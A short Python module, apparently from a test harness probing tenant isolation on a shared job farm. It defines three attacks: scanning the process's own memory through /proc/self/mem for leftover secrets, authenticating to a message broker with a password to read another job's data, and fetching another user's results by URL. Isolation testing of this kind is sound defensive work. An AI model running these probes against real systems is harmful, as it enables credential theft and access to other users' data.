"""Attacks on a farm as such: its secrets in the memory of what came of it, and other people's jobs in its stores."""

from __future__ import annotations

from .calls import Target, demand


def find_a_secret_in_its_memory(target: Target) -> object:
    """What an environment once held, a process forked from there still has, however well it was cleared.

    ``secrets`` are pairs of halves, since a whole one would be found where the target itself lies.
    """
    import os

    os.environ.clear()
    halves = [(first.encode(), second.encode()) for first, second in target["secrets"]]
    with open("/proc/self/maps") as file:
        spans = [line.split()[0].split("-") for line in file if " rw-p " in line]
    places = [place for start, end in spans for place in range(int(start, 16), int(end, 16), 2**20)]
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for place in places:
            try:
                there = os.pread(memory.fileno(), 2**20 + 4096, place)
            except OSError:  # not every page can be read
                continue
            if any(rest.startswith(second) for first, second in halves for rest in there.split(first)[1:]):
                return True
    raise FileNotFoundError("no secret anywhere")


def ask_the_broker(target: Target) -> object:
    """For what belongs to another job, as one who had learnt the broker's password, too."""
    import socket
    from urllib.parse import urlsplit

    broker = urlsplit(target["broker"])
    with socket.create_connection((broker.hostname, broker.port), 5) as sock:
        sock.sendall(f"AUTH {broker.password}\r\n{target['question']}\r\n".encode())
        answer = sock.makefile("rb")
        demand(answer.readline() == b"+OK\r\n", "another broker")
        size = int(answer.readline()[1:])
        return demand(answer.read(max(size, 0)), "no such thing")


def fetch_anothers_result(target: Target) -> object:
    """By the very URL that its owner was given."""
    from http.client import HTTPConnection
    from urllib.parse import urlsplit

    url = urlsplit(target["url"])
    connection = HTTPConnection(url.netloc, timeout=5)
    connection.request("GET", f"{url.path}?{url.query}")
    answer = connection.getresponse()
    return demand(answer.status == 200 and answer.read(), "nothing there")


ON_A_FARM = (find_a_secret_in_its_memory, ask_the_broker, fetch_anothers_result)
